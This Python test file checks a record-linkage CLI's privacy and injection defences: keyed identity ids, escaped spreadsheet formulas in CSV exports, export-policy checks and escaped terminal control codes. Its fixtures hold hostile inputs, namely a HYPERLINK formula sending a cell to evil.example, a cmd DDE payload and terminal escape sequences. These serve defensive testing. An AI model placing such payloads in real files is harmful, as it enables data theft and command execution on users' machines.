"""Leaks through the command line: identity ids, exports and CSV cells (docs/privacy.md)."""

from __future__ import annotations

import hashlib
import re
import stat

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from linkage.cli import app
from linkage.io import neutralize_formulas, restore_formulas

runner = CliRunner()

REGISTRY = (
    "rid,name,birth,addr,phone\n"
    'MZ202000000001,张伟,1980-01-02,"=HYPERLINK(""http://evil.example/?d=""&B2,""详情"")",-\n'
    '=HYPERLINK("http://x"),李娜,1975-03-04,北京市朝阳区建国路1号,+86 138 0013 8000\n'
    "@SUM(1),王芳,1990-05-06,-2+3+cmd|' /C calc'!A0,13800138000\n"
)
CONFIG = """
sources:
  civil_affairs:
    path: a.csv
    record_id: rid
    columns: {name: name, birth: birth_date, addr: current_address, phone: phone}
"""


def _project(tmp_path):
    (tmp_path / "a.csv").write_text(REGISTRY, encoding="utf-8")
    (tmp_path / "run.yaml").write_text(CONFIG, encoding="utf-8")
    return tmp_path / "run.yaml"


def _unkeyed(source: str, record_id: str) -> str:
    return "ID" + hashlib.sha1(f"{source}\x1f{record_id}".encode()).hexdigest()[:14].upper()


def test_identity_ids_are_keyed_stable_and_not_the_unkeyed_hash(tmp_path, monkeypatch):
    monkeypatch.delenv("LINKAGE_ID_KEY", raising=False)
    config = _project(tmp_path)
    ids = {}
    for run in ("one", "two"):
        result = runner.invoke(app, ["run", str(config), "--output", str(tmp_path / run), "-q"])
        assert result.exit_code == 0, result.output
        ids[run] = pd.read_csv(tmp_path / run / "identities.csv", dtype=str)
    key_file = tmp_path / "one" / "identity.key"
    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600
    # a second output folder has its own key: ids differ; the same key gives the same ids
    assert not set(ids["one"]["identity_id"]) & set(ids["two"]["identity_id"])
    again = runner.invoke(app, ["run", str(config), "--output", str(tmp_path / "one"), "-q"])
    assert again.exit_code == 0, again.output
    same = pd.read_csv(tmp_path / "one" / "identities.csv", dtype=str)
    assert same["identity_id"].tolist() == ids["one"]["identity_id"].tolist()
    records = restore_formulas(ids["one"])
    unkeyed = {_unkeyed(s, r) for s, r in zip(records["source"], records["record_id"], strict=True)}
    assert not unkeyed & set(records["identity_id"])
    # a store keeps its own secret: two runs into one store keep every id
    store = tmp_path / "s.duckdb"
    for run in ("s1", "s2"):
        result = runner.invoke(
            app, ["run", str(config), "--output", str(tmp_path / run), "--store", str(store), "-q"]
        )
        assert result.exit_code == 0, result.output
    s1 = pd.read_csv(tmp_path / "s1" / "identities.csv", dtype=str)
    s2 = pd.read_csv(tmp_path / "s2" / "identities.csv", dtype=str)
    assert s1["identity_id"].tolist() == s2["identity_id"].tolist()
    assert not unkeyed & set(s1["identity_id"])


def test_formula_cells_are_neutralized_in_every_csv_for_people(tmp_path):
    config = _project(tmp_path)
    store = tmp_path / "s.duckdb"
    result = runner.invoke(
        app, ["run", str(config), "--output", str(tmp_path / "out"), "--store", str(store), "-q"]
    )
    assert result.exit_code == 0, result.output
    result = runner.invoke(
        app,
        ["export", "--store", str(store), "--department", "civil_affairs", "--output",
         str(tmp_path / "export.csv"), "-q"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    files = ["out/identities.csv", "out/golden_records.csv", "out/cluster_sizes.csv", "export.csv"]
    for name in files:
        frame = pd.read_csv(tmp_path / name, dtype=str, keep_default_na=False)
        cells = [str(v) for v in frame.to_numpy().ravel()]
        bad = [c for c in cells if c[:1] in ("=", "@") or c.startswith("-2+")]
        assert not bad, (name, bad)
    ids = pd.read_csv(tmp_path / "out" / "identities.csv", dtype=str)
    assert set(restore_formulas(ids)["record_id"]) == {
        "MZ202000000001",
        '=HYPERLINK("http://x")',
        "@SUM(1)",
    }
    golden = pd.read_csv(tmp_path / "out" / "golden_records.csv", dtype=str)
    assert "'-2+3+cmd|' /C calc'!A0" in set(golden["current_address"])


def test_a_categorical_column_is_neutralized_as_its_text():
    """Categoricals (golden records' provenance sources) are escaped by their categories."""
    values = ["=1+1", "police", None, "@SUM(1)", "police"]
    frame = pd.DataFrame({"v": pd.Categorical(values), "n": range(5)})
    safe = neutralize_formulas(frame)
    as_text = neutralize_formulas(frame.assign(v=pd.Series(values, dtype=object)))
    cells = [[None if pd.isna(v) else v for v in f["v"]] for f in (safe, as_text)]
    assert cells[0] == cells[1] == ["'=1+1", "police", None, "'@SUM(1)", "police"]
    plain = pd.DataFrame({"v": pd.Categorical(["police", None, "health"]), "n": range(3)})
    assert neutralize_formulas(plain) is plain  # nothing to escape: no copy, still coded


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(st.none(), st.text(max_size=8)), min_size=1, max_size=10))
def test_neutralize_then_restore_is_exact_and_leaves_no_formula(values):
    frame = pd.DataFrame({"v": values, "n": range(len(values))})
    safe = neutralize_formulas(frame)
    for value in safe["v"].dropna():
        if value[:1] in ("=", "@", "\t", "\r"):
            raise AssertionError(value)
        if value[:1] in ("+", "-"):  # only a signed number, phone or filler stays unescaped
            assert re.fullmatch(r"[+-][\d\s.()\-]*", value), value
    back = restore_formulas(safe)
    assert back["v"].tolist() == frame["v"].tolist()
    assert back["n"].tolist() == frame["n"].tolist()


@given(
    st.lists(st.one_of(st.none(), st.text(alphabet=";'\" \t\r=+-@a1王", max_size=6)), max_size=8),
    st.sampled_from(["object", "str", "string", "category"]),
)
def test_the_prefilter_misses_no_cell_the_escaping_changes(values, dtype):
    """``neutralize_formulas`` escapes only the cells ``_may_need_escape`` picks (one Arrow
    pass over the column's own text, whatever its dtype): it must pick every cell the
    escaping would change, so the result equals escaping every cell."""
    from linkage.spreadsheet import _escape_cells, _may_need_escape

    column = pd.Series(values, dtype=object).astype(dtype)
    picked = _may_need_escape(column)
    _, changed = _escape_cells(column.astype(object))
    assert not (changed & ~picked).any()
    safe = neutralize_formulas(pd.DataFrame({"v": column, "n": range(len(values))}))
    escaped, mask = _escape_cells(column.astype(object))
    expected = [e if m else v for v, e, m in zip(column.astype(object), escaped.astype(object), mask)]
    assert [None if pd.isna(v) else v for v in safe["v"].astype(object)] == [
        None if pd.isna(v) else v for v in expected
    ]


def test_encode_never_copies_identifier_record_ids(tmp_path, monkeypatch):
    (tmp_path / "a.csv").write_text(
        "sfz,name,birth\n110105194912310021,张伟,1949-12-31\n44030619900101002X,李娜,1990-01-01\n",
        encoding="utf-8",
    )
    (tmp_path / "run.yaml").write_text(
        "sources:\n  reg: {path: a.csv, record_id: sfz, "
        "columns: {name: name, birth: birth_date, sfz: id_number}}\n",
        encoding="utf-8",
    )
    monkeypatch.setenv("LINKAGE_PPRL_KEY", "5f0c9a1e7b3d42c88e6a9f10d2b7c4e1")
    out = tmp_path / "clk.csv"
    args = ["encode", str(tmp_path / "run.yaml"), "--output", str(out), "--context", "test-leaks"]
    result = runner.invoke(app, [*args, "--key-map", str(tmp_path / "map.csv")])
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    assert "110105194912310021" not in text and "44030619900101002X" not in text
    local = pd.read_csv(tmp_path / "map.csv", dtype=str)
    encoded = pd.read_csv(out, dtype=str)
    assert local["pseudonym"].tolist() == encoded["record_id"].tolist()
    assert local["record_id"].tolist() == ["110105194912310021", "44030619900101002X"]
    result = runner.invoke(app, [*args, "--record-ids", "plain"])
    assert result.exit_code == 2 and "look like resident IDs" in result.output
    # the linkage unit reads CSV encodings too; bad files are refused with exit 2
    pairs = tmp_path / "pairs.csv"
    result = runner.invoke(app, ["link-encodings", str(out), str(out), "--output", str(pairs)])
    assert result.exit_code == 0, result.output
    assert len(pd.read_csv(pairs)) == 2
    (tmp_path / "bad.csv").write_text("source,record_id\nreg,R1\n", encoding="utf-8")
    for other, message in (
        (tmp_path / "missing.csv", "missing.csv"),
        (tmp_path / "bad.csv", "lack columns"),
    ):
        result = runner.invoke(
            app, ["link-encodings", str(out), str(other), "--output", str(pairs)]
        )
        assert result.exit_code == 2 and message in result.output, result.output


def test_export_refuses_a_policy_whose_joined_exports_rebuild_ids(tmp_path):
    import yaml

    from linkage.share import DEFAULT_POLICY_PATH

    config = _project(tmp_path)
    store = tmp_path / "s.duckdb"
    result = runner.invoke(
        app, ["run", str(config), "--output", str(tmp_path / "out"), "--store", str(store), "-q"]
    )
    assert result.exit_code == 0, result.output
    data = yaml.safe_load(open(DEFAULT_POLICY_PATH, encoding="utf-8"))
    for department in ("health", "social_security"):
        data["departments"][department]["identity"] = "identity_id"
    # the shipped grant cuts social_security's ID to first6; the ID's last four would
    # let a shared id plus health's birth date rebuild it
    data["departments"]["social_security"]["fields"]["id_number"] = "first6_last4"
    policy = tmp_path / "policy.yaml"
    policy.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    result = runner.invoke(
        app,
        ["export", "--store", str(store), "--department", "health", "--policy", str(policy),
         "--output", str(tmp_path / "health.csv")],
    )  # fmt: skip
    assert result.exit_code == 2
    assert "health, social_security can join" in result.output
    assert not (tmp_path / "health.csv").exists()


def _semicolon_formulas(text: str) -> list[str]:
    """Pieces a spreadsheet whose list separator is ';' would start a cell with and run: each
    piece after a ';' (quotes and spaces before it do not stop a formula)."""
    pieces = [p.lstrip(' \t"') for line in text.splitlines() for p in line.split(";")[1:]]
    return [p for p in pieces if p[:1] in ("=", "+", "-", "@")]


def test_cells_a_semicolon_spreadsheet_would_split_into_formulas_are_neutralized(tmp_path):
    """A registry's record id ``MZ1;=1+1`` and a bad row ``x;=2+2``: a spreadsheet whose
    list separator is ``;`` splits the line there, CSV quoting or not, and runs ``=1+1``.
    identities.csv, golden_records.csv and the bad-rows file must leave it no such piece,
    and read back exactly (``restore_formulas``)."""
    registry = (
        REGISTRY + 'MZ1;=1+1,赵敏,1985-07-08,"上海市黄浦区; ""@SUM(1)",13900001111\n' + "x;=2+2\n"
    )
    (tmp_path / "a.csv").write_text(registry, encoding="utf-8")
    (tmp_path / "run.yaml").write_text(CONFIG, encoding="utf-8")
    bad = tmp_path / "bad.csv"
    result = runner.invoke(
        app,
        ["run", str(tmp_path / "run.yaml"), "--output", str(tmp_path / "out"),
         "--bad-rows", str(bad), "-q"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    for path in (tmp_path / "out" / "identities.csv", tmp_path / "out" / "golden_records.csv", bad):
        assert not _semicolon_formulas(path.read_text(encoding="utf-8")), path.name
    ids = restore_formulas(pd.read_csv(tmp_path / "out" / "identities.csv", dtype=str))
    assert "MZ1;=1+1" in set(ids["record_id"])
    aside = restore_formulas(pd.read_csv(bad, dtype=str))
    assert aside["raw_row"].tolist() == ["x;=2+2"]


def test_write_csv_neutralizes_a_formula_after_a_semicolon_only(tmp_path):
    from linkage.io import write_csv

    frame = pd.DataFrame({"record_id": ["R1", "a;b", "=1", "a; @SUM(1)", "x;'=1"], "n": range(5)})
    write_csv(frame, tmp_path / "f.csv")
    text = (tmp_path / "f.csv").read_text(encoding="utf-8")
    assert text == "record_id,n\nR1,0\na;b,1\n'=1,2\na;' @SUM(1),3\nx;''=1,4\n"
    back = restore_formulas(pd.read_csv(tmp_path / "f.csv", dtype=str))
    assert back["record_id"].tolist() == frame["record_id"].tolist()


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(st.none(), st.text(alphabet=";'\" \t=+-@a1", max_size=10)), max_size=8))
def test_semicolon_neutralizing_is_exact_and_leaves_no_split_formula(values):
    frame = pd.DataFrame({"v": values}, dtype=object)
    safe = neutralize_formulas(frame)
    for value in safe["v"].dropna():
        assert not _semicolon_formulas(value), value
    assert restore_formulas(safe)["v"].tolist() == frame["v"].tolist()


def test_spark_identities_csv_neutralizes_formula_cells(tmp_path):
    """The Spark engine streams identities.csv itself: a record id ``=1+1`` (or ``MZ1;=1+1``)
    that a registry sent went out raw, though the local engine's file neutralized it."""
    import pytest

    pytest.importorskip("pyspark")
    from linkage.spark.engine import _stream_csv

    rows = [
        ("police", "=1+1", "ID1"),
        ("police", "MZ1;=1+1", "ID2"),
        ("police", "R3", "ID3"),
        ("police", "+86 138 0013 8000", "ID3"),
    ]

    class Frame:  # what _stream_csv reads of a Spark DataFrame
        columns = ["source", "record_id", "identity_id"]

        def orderBy(self, *columns):  # noqa: N802 - Spark's name
            return self

        def toLocalIterator(self):  # noqa: N802 - Spark's name
            return iter(rows)

    path = tmp_path / "identities.csv"
    _stream_csv(Frame(), path, chunk=2)
    text = path.read_text(encoding="utf-8")
    frame = pd.read_csv(path, dtype=str)
    assert not [c for c in frame.to_numpy().ravel() if c[:1] in ("=", "@")]
    assert not _semicolon_formulas(text)
    assert restore_formulas(frame)["record_id"].tolist() == [r[1] for r in rows]


def test_search_prints_no_terminal_control_characters(tmp_path):
    """A registry's name holding ESC ] 0; ... BEL (set the window title) and ESC [2J (clear
    the screen) is kept by the golden record; `linkage search` printed it raw to the
    operator's terminal. It now prints each control character as its escape."""
    data = tmp_path / "data"
    result = runner.invoke(app, ["synth", "--persons", "200", "--seed", "3", "-o", str(data), "-q"])
    assert result.exit_code == 0, result.output
    police = pd.read_csv(data / "police.csv", dtype=str, keep_default_na=False)
    # a person with one record only: the golden record keeps that record's name
    # (ID numbers are ASCII: looked up in the other registries' bytes, whatever their encoding)
    others = (data / "health.csv").read_bytes() + (data / "civil_affairs.csv").read_bytes()
    ids = police["公民身份号码"]
    alone = next(
        i for i, v in ids.items() if v and ids.eq(v).sum() == 1 and v.encode() not in others
    )
    police.loc[alone, "姓名"] = "张\x1b]0;pwned\x07\x1b[2J伟"
    police.to_csv(data / "police.csv", index=False)
    store = tmp_path / "s.duckdb"
    result = runner.invoke(
        app, ["run", str(data / "run.yaml"), "--output", str(tmp_path / "o"),
              "--store", str(store), "-q"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    id_number = police.loc[alone, "公民身份号码"]
    found = runner.invoke(app, ["search", "--store", str(store), "--id-number", id_number])
    assert found.exit_code == 0, found.output
    assert "pwned" in found.stdout  # the hit is printed ...
    assert "\x1b" not in found.stdout and "\x07" not in found.stdout  # ... without control codes
    assert "\\x1b]0;pwned\\x07" in found.stdout


# cells built from the characters the formula rules look at, so most draws hit a rule
_FORMULA_TEXT = st.text(alphabet="=+-@'\t\r; \"0123456789.()aé张", max_size=8)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.one_of(st.none(), _FORMULA_TEXT, st.text(max_size=6)), min_size=1, max_size=12),
    st.sampled_from([object, "str", "string"]),
)
def test_neutralize_prefilter_changes_nothing_the_full_check_would_not(values, dtype):
    """Only candidate cells get the regular expressions: the result must equal running the
    full per-cell check on every cell (object, pandas' str and string dtypes)."""
    from linkage.spreadsheet import _escape_cells

    column = pd.Series(values, dtype=dtype)
    safe = neutralize_formulas(pd.DataFrame({"v": column}))["v"]
    new, mask = _escape_cells(column)
    expected = column.astype(object).to_numpy(copy=True)
    expected[mask] = new.astype(object).to_numpy()[mask]
    got = safe.astype(object).to_numpy()
    assert [None if pd.isna(v) else v for v in got] == [
        None if pd.isna(v) else v for v in expected
    ]


def test_neutralize_column_of_non_text_objects_takes_the_full_path():
    """Numbers in an object column are not Arrow text: every cell is checked, as before."""
    frame = pd.DataFrame({"v": pd.Series([-5, "=1+1", 3.5, None], dtype=object)})
    assert neutralize_formulas(frame)["v"].tolist()[:3] == [-5, "'=1+1", 3.5]
